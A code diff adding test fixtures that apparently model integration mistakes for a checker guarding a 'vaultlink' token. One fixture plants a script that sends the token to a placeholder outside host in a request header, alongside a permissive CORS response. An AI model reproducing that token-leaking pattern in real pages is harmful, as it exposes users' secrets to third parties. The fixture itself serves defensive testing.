@@ -206,4 +206,36 @@ export const WAY_MISTAKES: readonly Mistake[] = [
       ),
     },
   },
+  {
+    name: 'reads the outcome from a parameter without a value',
+    causeId: 'outcome-parameter',
+    broken: 'reported',
+    pages: {
+      ...last(tag('data-outcome-param="status"'), THANKS),
+      '/': page(tag(), '<a id="start" href="/end?status=">Start</a>'),
+    },
+  },
+  {
+    name: 'leaves the token in the address by another word than off',
+    causeId: 'scrub-off',
+    broken: 'address',
+    pages: landing(tag('data-scrub="false"')),
+  },
+  {
+    name: 'sends the token to another host in a header',
+    causeId: 'third-party',
+    broken: 'private',
+    cause: /received the token in a header/,
+    pages: landing(
+      tag(),
+      `${START}<script>fetch('{other}/api',{headers:{'x-token':vaultlink.token()}})</script>`,
+    ),
+    files: {
+      '/api': () =>
+        served('', 'text/plain', {
+          'access-control-allow-origin': '*',
+          'access-control-allow-headers': '*',
+        }),
+    },
+  },
 ];
